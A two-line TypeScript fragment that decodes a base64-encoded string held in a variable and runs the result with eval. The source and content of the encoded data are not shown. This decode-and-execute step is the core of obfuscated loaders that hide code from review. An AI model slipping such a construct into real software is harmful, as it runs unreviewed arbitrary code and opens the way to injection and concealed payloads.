const code: string = Buffer.from(blob, 'base64').toString();
eval(code);
